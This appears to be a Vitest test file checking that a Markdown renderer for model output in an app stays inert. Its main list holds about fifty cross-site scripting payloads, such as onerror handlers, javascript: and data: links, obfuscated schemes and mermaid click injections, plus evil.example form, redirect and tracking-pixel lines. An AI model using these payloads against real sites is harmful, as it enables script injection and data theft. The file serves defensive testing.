// @vitest-environment happy-dom
import { fireEvent, screen, waitFor } from '@testing-library/react';
import { beforeEach, describe, expect, it } from 'vitest';
import type { FakeApi } from '../../../testing/fake-api.ts';
import { renderInApp, setUp } from '../../../testing/set-up.tsx';
import { Markdown } from './Markdown.tsx';

let fake: FakeApi;
beforeEach(async () => {
  fake = await setUp();
});

const show = (text: string, growing = false) => renderInApp(<Markdown text={text} growing={growing} />).container;

/** Whatever could run, load or send something. */
function dangers(root: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'form', 'link', 'meta', 'base', 'video', 'audio'].includes(tag))
      found.push(tag);
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) found.push(`${tag} ${name}`);
      if (['href', 'src', 'srcset', 'action', 'xlink:href', 'srcdoc', 'poster'].includes(name)) {
        if (!/^(?:https?:|mailto:)/.test(value) && tag === 'a') found.push(`${tag} ${name}=${value}`);
        if (tag !== 'a') found.push(`${tag} ${name}=${value}`);
      }
    }
  }
  return found;
}

const attacks = [
  '<img src=x onerror=alert(1)>',
  'before <img src=x onerror=alert(1)> after',
  '<svg onload=alert(1)><circle r=1></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=q></form>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png?words)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '~~~ts onload=alert(1)\nx\n~~~',
  '`<img src=x onerror=alert(1)>`',
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B\nclick A "javascript:alert(1)"\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n| --- | --- |\n| <svg onload=alert(1)> | x |',
  '# <img src=x onerror=alert(1)>',
  '- <iframe src=https://evil.example>',
  'text[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  'text[^1]\n\n[^1]: [a](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zy8+)',
  'javascript://a.example/%0aalert(1)',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A&#x61;vascript:alert(1))',
  '[x](tinyelf://app/index.html)',
  '[x](//evil.example)',
  "[x](javascript:alert(1) 'https://a.example')",
  '![x](data:image/png;base64,AAAA" onerror="alert(1))',
  '![x](DATA:IMAGE/SVG+XML;base64,PHN2Zy8+)',
  '![" onerror=alert(1) x="](https://a.example/x.png)',
  '![x][r]\n\n[r]: data:image/svg+xml;base64,PHN2Zy8+',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\ngraph TD\nclick A call alert(1)\n```',
];

describe('what a model writes stays inert', () => {
  it.each(attacks)('%j', (text) => {
    expect(dangers(show(text))).toEqual([]);
  });

  it.each(attacks)('%j, while it is written', (text) => {
    for (let length = 1; length <= text.length; length += 7) {
      const { container, unmount } = renderInApp(<Markdown text={text.slice(0, length)} growing />);
      expect(dangers(container)).toEqual([]);
      unmount();
    }
  });

  it('shows HTML as the text that it is', () => {
    expect(show('a <b>bold</b> <img src=x onerror=alert(1)> word').textContent).toContain(
      'a <b>bold</b> <img src=x onerror=alert(1)> word',
    );
  });
});

describe('links', () => {
  it('show where they go and open outside', async () => {
    show('[guide](https://example.com/tea)');
    const link = screen.getByRole('link', { name: 'guide' });
    expect(link.getAttribute('title')).toBe('https://example.com/tea');
    expect(fireEvent.click(link)).toBe(false);
    await waitFor(() => expect(fake.calls).toContainEqual(['app.openExternal', { url: 'https://example.com/tea' }]));
  });

  it('that may go nowhere keep their text', () => {
    const root = show('[press here](javascript:alert(1))');
    expect(root.querySelector('a')).toBeNull();
    expect(root.textContent).toContain('press here');
  });
});

describe('pictures', () => {
  it('that lie elsewhere are named, and opened in the browser by a click', async () => {
    const root = show('![chart](https://img.example/a.png)');
    expect(root.querySelector('img')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: /chart.*img\.example/ }));
    await waitFor(() => expect(fake.calls).toContainEqual(['app.openExternal', { url: 'https://img.example/a.png' }]));
  });
});

describe('code', () => {
  it('shows a fence with its language, whatever that is, and its text unchanged', () => {
    const root = show('```"><img src=x>\nlet a = 1 < 2;\n```');
    expect(root.querySelector('pre')?.textContent).toBe('let a = 1 < 2;');
  });

  it('can be copied', async () => {
    show('```ts\nconst a = 1;\n```');
    fireEvent.click(screen.getByRole('button', { name: 'Copy code' }));
    await waitFor(() => expect(fake.calls).toContainEqual(['app.copyText', { text: 'const a = 1;' }]));
  });

  it('is coloured once it is whole', async () => {
    const root = show('```ts\nconst a = 1; // note\n```');
    await waitFor(() => expect(root.querySelector('pre span')).not.toBeNull(), { timeout: 10_000 });
    expect(root.querySelector('pre')?.textContent).toBe('const a = 1; // note');
    expect(root.querySelector<HTMLElement>('pre span')?.style.color).toMatch(/^var\(--code-/);
  });
});

describe('blocks within one another', () => {
  const indented = Array.from({ length: 300 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n');

  it.each([
    ['quotes', '>'.repeat(3_000)],
    ['lists', '- '.repeat(3_000)],
    ['numbered lists', '1. '.repeat(3_000)],
    ['both', '> * '.repeat(2_000)],
    ['lists by their indentation', `${indented}\n`],
  ])('are shown as they are written where there are too many: %s', (_kind, markers) => {
    for (const growing of [false, true])
      expect(show(`Before\n${markers}x`, growing).textContent).toContain(`${markers}x`);
  });

  it('are built where there are a few, and lines that only look like many are left alone', () => {
    expect(show(`${'> '.repeat(20)}x`).querySelectorAll('blockquote')).toHaveLength(20);
    for (const line of [
      '-'.repeat(300),
      '+---'.repeat(100),
      '- '.repeat(60),
      `${' '.repeat(300)}x`,
      `- ${' '.repeat(5_000)}`,
    ]) {
      expect(show(`# a\n\n${line}\n`).querySelector('h1')).not.toBeNull();
    }
  });
});

describe('markdown', () => {
  it('shows tables, lists and emphasis', () => {
    const root = show('| a | b |\n| - | -: |\n| 1 | 2 |\n\n1. one\n2. *two*');
    expect(root.querySelectorAll('td')).toHaveLength(2);
    expect(root.querySelectorAll('ol li')).toHaveLength(2);
    expect(root.querySelector('em')?.textContent).toBe('two');
  });
});
